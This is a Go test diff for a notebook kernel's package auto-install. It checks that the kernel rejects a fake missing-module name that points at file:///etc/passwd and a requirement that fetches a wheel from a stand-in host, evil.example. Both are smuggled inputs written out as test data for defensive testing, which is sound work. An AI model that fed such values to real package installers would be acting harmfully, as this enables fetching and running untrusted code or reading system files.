@@ -76,6 +76,25 @@ func TestAutoInstallOffExplains(t *testing.T) {
 	}
 }
 
+// A cell that raises ModuleNotFoundError naming what is not a package,
+// and a script block that declares a URL, get nothing installed and no
+// question asked.
+func TestAutoInstallTakesOnlyNames(t *testing.T) {
+	var asked []string
+	k, _ := installKernel(t, contract.InstallAsk, func(_ context.Context, pkgs []string) bool {
+		asked = append(asked, pkgs...)
+		return true
+	})
+	r := kerneltest.Run(t, k, "raise ModuleNotFoundError(\"No module named 'x @ file:///etc/passwd'\")")
+	if r.Status != kernel.StatusError || r.Error.EName != "ModuleNotFoundError" || len(asked) != 0 {
+		t.Fatalf("%+v asked %v", r.Error, asked)
+	}
+	r, err := k.Execute(context.Background(), kernel.Request{Code: "1", Requirements: []string{"x @ https://evil.example/x.whl"}})
+	if err != nil || r.Status != kernel.StatusOK || !strings.Contains(r.Stderr, "not a requirement") || len(asked) != 0 {
+		t.Fatalf("%+v %v %+v asked %v", r, err, r.Error, asked)
+	}
+}
+
 func TestScriptRequirementsInstalledFirst(t *testing.T) {
 	k, mod := installKernel(t, contract.InstallOn, nil)
 	r, err := k.Execute(context.Background(), kernel.Request{Code: "import " + mod + "\n" + mod + ".ANSWER", Requirements: []string{mod}})
